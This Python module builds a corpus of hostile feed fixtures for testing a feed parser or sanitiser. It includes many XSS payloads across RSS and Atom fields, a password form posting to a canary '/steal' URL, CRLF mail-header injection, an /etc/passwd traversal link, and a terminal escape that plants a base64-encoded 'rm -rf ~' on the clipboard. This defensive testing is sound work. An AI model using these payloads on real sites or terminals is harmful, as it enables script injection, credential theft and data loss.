# ruff: noqa: E501 - corpus data: long literal payloads read better on one line
"""Hostile feeds for the corpus, second half: enormous titles, attributes and links, deep
nesting, scripts and handlers in every field, other feed formats."""

from __future__ import annotations

from collections.abc import Iterator

from tests.corpora.feed_xml import ATOM, GOOD, XSS, item, rss
from tests.corpora.spec import CANARY, Case


def _enormous() -> Iterator[Case]:
    yield Case(
        "huge-title.xml",
        rss(item("Titre " * 3_000, "/a/huge-title.html")),
        "an 18,000-character title",
    )
    yield Case(
        "huge-attribute.xml",
        rss(
            item(
                "Pièce jointe",
                "/a/huge-attr.html",
                extra=f'<enclosure url="https://corpus.example/{"x" * 20_000}" length="1" type="audio/mpeg"/>',
            )
        ),
        "a 20,000-character attribute",
    )
    yield Case(
        "huge-link.xml",
        rss(item("Lien", "/a/" + "l" * 20_000 + ".html")),
        "a 20,000-character link",
    )
    yield Case(
        "huge-author.xml",
        rss(item("Auteur", "/a/huge-author.html", extra=f"<author>{'Jean ' * 4_000}</author>")),
        "a 20,000-character author",
    )
    yield Case(
        "huge-guid.xml",
        rss(item("Guid", "/a/huge-guid.html", extra=f"<guid>{'g' * 20_000}</guid>")),
        "a 20,000-character guid",
    )
    yield Case(
        "huge-categories.xml",
        rss(
            item(
                "Catégories",
                "/a/huge-cat.html",
                extra="".join(f"<category>c{n}</category>" for n in range(1_000)),
            )
        ),
        "1,000 categories on one entry",
    )
    yield Case(
        "huge-channel-title.xml",
        rss(GOOD).replace("<title>Corpus</title>", f"<title>{'Chaîne ' * 3_000}</title>", 1),
        "a 21,000-character channel title",
    )
    yield Case(
        "huge-words.xml",
        rss(item("Mot", "/a/huge-word.html", "x" * 20_000)),
        "one 20,000-character word",
    )
    yield Case(
        "huge-whitespace.xml",
        rss(item("Espaces" + " " * 10_000 + "fin", "/a/huge-space.html", "\n" * 10_000)),
        "10,000 spaces in a title, 10,000 newlines in a description",
    )
    many = "".join(item(f"Entrée {n}", f"/a/many-{n}.html", "") for n in range(300))
    yield Case(
        "many-entries-300.xml",
        rss(many),
        "300 entries (the 100,000-entry feed is generated at test time)",
    )
    yield Case(
        "many-duplicate-links.xml",
        rss("".join(item(f"Doublon {n}", "/a/same.html") for n in range(200))),
        "200 entries with one link",
    )


def _nested() -> Iterator[Case]:
    deep = "<div>" * 2_000 + "profond" + "</div>" * 2_000
    yield Case(
        "nested-html-in-description.xml",
        rss(item("Profond", "/a/deep-html.html", f"<![CDATA[{deep}]]>")),
        "2,000 nested <div> in a description",
    )
    yield Case(
        "nested-escaped-html.xml",
        rss(
            item(
                "Profond échappé",
                "/a/deep-escaped.html",
                deep.replace("<", "&lt;").replace(">", "&gt;"),
            )
        ),
        "2,000 nested escaped <div>",
    )
    yield Case(
        "nested-xml-elements.xml",
        rss(item("XML profond", "/a/deep-xml.html", extra="<x>" * 5_000 + "</x>" * 5_000)),
        "5,000 nested XML elements inside an item",
    )
    yield Case(
        "nested-unclosed.xml",
        rss(item("Jamais fermé", "/a/deep-unclosed.html", extra="<x>" * 5_000)),
        "5,000 nested elements never closed",
    )
    yield Case(
        "nested-title-markup.xml",
        rss(item("&lt;b&gt;" * 3_000 + "gras", "/a/deep-title.html")),
        "3,000 nested escaped <b> in a title",
    )
    yield Case(
        "nested-items.xml",
        rss(
            "<item>" * 3_000 + "<title>x</title><link>/a/deep-items.html</link>" + "</item>" * 3_000
        ),
        "3,000 items nested inside each other",
    )


def _markup() -> Iterator[Case]:
    js = "javascript:alert(1)"
    payloads = {
        "script": XSS,
        "img-onerror": "<img src=x onerror=alert(1)>",
        "svg-onload": "<svg onload=alert(1)><circle r=1 /></svg>",
        "iframe": f"<iframe src='{CANARY}/iframe'></iframe><iframe srcdoc='<script>alert(1)</script>'></iframe>",
        "js-link": f"<a href='{js}'>clic</a><a href='JaVaScRiPt:alert(2)'>x</a><a href='&#106;avascript:alert(3)'>y</a>",
        "obfuscated-js": "<a href='java\tscript:alert(1)'>a</a><a href=' javascript:alert(1)'>b</a><a href='vbscript:msgbox(1)'>c</a>",
        "data-uri": "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>d</a><img src='data:image/svg+xml,<svg onload=alert(1)>'>",
        "style": "<style>body{background:url(javascript:alert(1))}</style><p style='x:expression(alert(1))'>css</p>",
        "meta-refresh": f"<meta http-equiv='refresh' content='0;url={CANARY}/refresh'><base href='{CANARY}/'>",
        "form": f"<form action='{CANARY}/steal'><input name=p type=password autofocus onfocus=alert(1)></form>",
        "object-embed": f"<object data='{CANARY}/obj'></object><embed src='{CANARY}/embed'><applet code=x></applet>",
        "event-handlers": "<p onclick=alert(1) onmouseover=alert(2) ONLOAD=alert(3)>survol</p><body onload=alert(4)>",
        "template-noscript": "<template><script>alert(1)</script></template><noscript><img src=x onerror=alert(1)></noscript>",
        "broken-tags": "<scr<script>ipt>alert(1)</scr</script>ipt><<script>alert(2)//<</script>",
        "mathml": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
        "comment-trick": "<!--<img src=x onerror=alert(1)>--><!--[if IE]><script>alert(1)</script><![endif]-->",
        "remote-resources": f"<img src='{CANARY}/pixel.gif'><link rel=stylesheet href='{CANARY}/s.css'><script src='{CANARY}/s.js'></script>",
    }
    for name, payload in payloads.items():
        escaped = payload.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
        yield Case(
            f"markup-{name}-description.xml",
            rss(item(f"Balisage {name}", f"/a/markup-{name}.html", f"<![CDATA[{payload}]]>")),
            f"{name} in a description (CDATA)",
        )
        yield Case(
            f"markup-{name}-title.xml",
            rss(item(escaped, f"/a/markup-{name}-t.html", escaped)),
            f"{name} in a title and a description (escaped)",
        )
    yield Case(
        "markup-every-field.xml",
        rss(
            item(
                XSS,
                f"/a/{'%3Cscript%3E'}.html",
                f"<![CDATA[{XSS}]]>",
                extra=f"<author>{XSS.replace('<', '&lt;')}</author><category>{XSS.replace('<', '&lt;')}</category><comments>{js}</comments><source url='{js}'>x</source><enclosure url='{js}' type='text/html'/><guid>{js}</guid>",
            ),
            channel=f"<image><url>{js}</url></image><description>{XSS.replace('<', '&lt;')}</description>",
        ),
        "a script in every RSS field",
    )
    yield Case(
        "markup-js-item-links.xml",
        rss(
            item("Lien JS", js)
            + item("Lien vbscript", "vbscript:msgbox(1)")
            + item("Lien data", "data:text/html,<script>alert(1)</script>".replace("<", "&lt;"))
            + GOOD
        ),
        "javascript:, vbscript: and data: item links",
    )
    yield Case(
        "markup-canary-item-links.xml",
        rss(
            item("Canari", f"{CANARY}/learned-link")
            + item(
                "Canari 2", f"{CANARY}/learned-link-2", f"<![CDATA[<img src='{CANARY}/pixel'>]]>"
            )
            + GOOD
        ),
        "item links to the canary (learned links are never fetched there)",
    )
    atom = (
        '<?xml version="1.0" encoding="utf-8"?>\n<feed xmlns="http://www.w3.org/2005/Atom">'
        f"<title type='html'>{XSS.replace('<', '&lt;')}</title><id>urn:x</id><updated>2026-10-01T10:00:00Z</updated>"
        f"<entry><title type='xhtml'><div xmlns='http://www.w3.org/1999/xhtml'><script>alert(1)</script>Titre</div></title>"
        f"<link href='{js}'/><link rel='alternate' href='/a/atom-xhtml.html'/><id>/a/atom-xhtml.html</id><updated>2026-10-01T10:00:00Z</updated>"
        f"<content type='xhtml'><div xmlns='http://www.w3.org/1999/xhtml'><p onclick='alert(1)'>Texte</p><a href='{js}'>x</a></div></content>"
        f"<author><name>{XSS.replace('<', '&lt;')}</name><uri>{js}</uri></author></entry></feed>"
    )
    yield Case("markup-atom-xhtml.xml", atom, "Atom xhtml title and content carrying scripts", ATOM)
    yield Case(
        "markup-header-injection.xml",
        rss(
            item(
                "Titre&#13;&#10;Bcc: victim@example.com&#13;&#10;&#13;&#10;corps",
                "/a/crlf.html",
                "Résumé&#13;&#10;To: x@example.com",
            )
        ),
        "CR LF and mail headers in a title",
    )
    yield Case(
        "markup-terminal-escapes.xml",
        rss(
            item(
                "\x1b[31mRouge\x1b[0m \x1b]0;titre\x07 \u202egnp.exe\u200b\u2028",
                "/a/escapes.html",
                "\x1b]52;c;cm0gLXJmIH4=\x07",
            )
        ),
        "terminal escapes, RTL override and line separators",
    )
    yield Case(
        "markup-relative-links.xml",
        rss(
            item("Relatif", "../../../../etc/passwd")
            + item("Sans schéma", f"//127.0.0.1:{1}/x")
            + item("Espaces", "/a/with space.html")
            + GOOD
        ),
        "relative, scheme-relative and spaced links",
    )


def _variants() -> Iterator[Case]:
    rdf = (
        '<?xml version="1.0"?><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" '
        'xmlns="http://purl.org/rss/1.0/"><channel rdf:about="x"><title>RDF</title></channel>'
        f"<item rdf:about='/a/rdf.html'><title>{XSS.replace('<', '&lt;')}</title><link>/a/rdf.html</link></item></rdf:RDF>"
    )
    yield Case(
        "variant-rss1-rdf.xml", rdf, "RSS 1.0 (RDF) with a script title", "application/rdf+xml"
    )
    yield Case(
        "variant-json-feed.json",
        '{"version":"https://jsonfeed.org/version/1","items":[{"id":"1","url":"javascript:alert(1)","title":"<script>"}]}',
        "a JSON Feed (not read as a feed)",
        "application/feed+json",
        expect_error=True,
    )
    yield Case(
        "variant-rss-0.91.xml", rss(GOOD).replace('version="2.0"', 'version="0.91"'), "RSS 0.91"
    )
    yield Case(
        "variant-atom-no-links.xml",
        '<?xml version="1.0"?><feed xmlns="http://www.w3.org/2005/Atom"><title>x</title>'
        + "<entry><title>sans lien</title><id>urn:1</id></entry>" * 5
        + "</feed>",
        "Atom entries without links",
        ATOM,
    )
    yield Case(
        "variant-dates.xml",
        rss(
            item(
                "Dates",
                "/a/dates.html",
                extra="<pubDate>Mon, 99 Foo 99999 25:61:61 +9999</pubDate>",
            )
            + item("Dates 2", "/a/dates2.html", extra="<pubDate>-0001-01-01T00:00:00Z</pubDate>")
            + item("Dates 3", "/a/dates3.html", extra="<pubDate>" + "9" * 5_000 + "</pubDate>")
        ),
        "impossible and enormous dates",
    )
    yield Case(
        "variant-wrong-namespace.xml",
        rss(GOOD).replace("<rss", '<rss xmlns="urn:not-rss"'),
        "RSS elements in a foreign namespace",
    )


def field_cases() -> Iterator[Case]:
    for group in (_enormous, _nested, _markup, _variants):
        yield from group()
